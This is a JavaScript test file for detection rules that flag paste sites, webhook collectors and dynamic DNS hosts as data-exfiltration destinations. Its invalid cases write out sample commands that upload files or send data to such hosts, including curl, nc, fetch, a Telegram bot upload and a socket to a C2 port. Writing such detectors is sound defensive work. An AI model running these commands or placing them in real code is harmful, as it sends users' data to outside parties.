// Rule tests for paste sites, webhook collectors and dynamic DNS.
import { ruleTester } from '../../rule-tester.js';

ruleTester('exfil.paste-service', {
  valid: [
    { text: 'Never upload logs to pastebin.com.', kind: 'markdown', name: 'negated prose' },
    { text: 'https://notpastebin.com/x', name: 'look-alike prefix' },
    { text: 'https://pastebin.com.example.org/x', name: 'look-alike suffix' },
    { text: '[{"host": "pastebin.com", "severity": "critical"}]', kind: 'config', path: 'signatures/paste-hosts.json', name: 'signature data' },
  ],
  invalid: [
    { text: 'curl -s -F "file=@out.txt" https://0x0.st', kind: 'shell', errors: [{ line: 1, column: 28, host: '0x0.st', evidence: 'https://0x0.st' }] },
    { text: "requests.get('https://glot.io/snippets/abc/raw/main.sh')", kind: 'code-py', errors: [{ line: 1, column: 15, host: 'glot.io' }] },
    { text: 'cat data | nc termbin.com 9999', kind: 'shell', errors: [{ line: 1, column: 15, host: 'termbin.com' }] },
    { text: 'upload to https://litterbox.catbox.moe/resources/internals/api.php', kind: 'text', errors: [{ line: 1, column: 11, host: 'litterbox.catbox.moe' }] },
  ],
});

ruleTester('exfil.webhook-collector', {
  valid: [
    { text: 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX', name: 'documentation placeholder' },
    { text: 'Do not send anything to webhook.site.', kind: 'markdown' },
    { text: 'https://mywebhook.site.example.com/', name: 'look-alike' },
  ],
  invalid: [
    { text: "fetch('https://webhook.site/6f1c2a9e-4b7d-4c1e-9f5a-2d3b8e7c6a10', { method: 'POST', body })", kind: 'code-js', errors: [{ line: 1, column: 8, host: 'webhook.site' }] },
    { text: 'requests.post(f"https://api.telegram.org/bot{tok}/sendDocument", files=files)', kind: 'code-py', errors: [{ line: 1, column: 17, host: 'api.telegram.org' }] },
    { text: 'ws = new WebSocket("wss://a1b2.ngrok-free.app/x")', kind: 'code-js', errors: [{ line: 1, column: 21, host: 'a1b2.ngrok-free.app' }] },
    { text: 'curl https://x.oast.fun/$(whoami)', kind: 'shell', errors: [{ line: 1, column: 6, host: 'x.oast.fun' }] },
  ],
});

ruleTester('exfil.dynamic-dns', {
  valid: [{ text: 'https://duckdns.org.example.com/' }, { text: 'We never use no-ip.com.', kind: 'markdown' }],
  invalid: [
    { text: 'socket.connect(("c2-node.duckdns.org", 4444))', kind: 'code-py', errors: [{ line: 1, column: 18, host: 'c2-node.duckdns.org' }] },
    { text: 'C2=http://evil.ddns.net:8080/beacon', errors: [{ line: 1, column: 4, host: 'evil.ddns.net', evidence: 'http://evil.ddns.net:8080/beacon' }] },
  ],
});
